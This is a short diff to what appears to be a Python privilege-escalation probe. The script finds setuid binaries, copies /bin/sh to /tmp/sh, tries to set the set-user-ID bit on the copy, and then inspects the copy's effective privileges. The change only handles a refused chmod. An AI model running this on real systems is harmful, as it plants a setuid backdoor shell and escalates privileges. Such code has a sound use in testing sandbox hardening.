@@ -12,7 +12,11 @@ from attack import attempt, libc, raw
 found = [path for path in glob.glob("/usr/*bin/*") if os.stat(path).st_mode & stat.S_ISUID]
 live = [path for path in found if not os.statvfs(path).f_flag & os.ST_NOSUID]
 shutil.copy("/bin/sh", "/tmp/sh")
-os.chmod("/tmp/sh", 0o4755)
+try:
+    os.chmod("/tmp/sh", 0o4755)
+except PermissionError:
+    os.chmod("/tmp/sh", 0o755)
+    print("refused a set-user-ID bit")
 inside = subprocess.run(
     ["/tmp/sh", "-p", "-c", "grep -E '^(Uid|CapEff|NoNewPrivs)' /proc/self/status"], capture_output=True, text=True
 ).stdout.split()
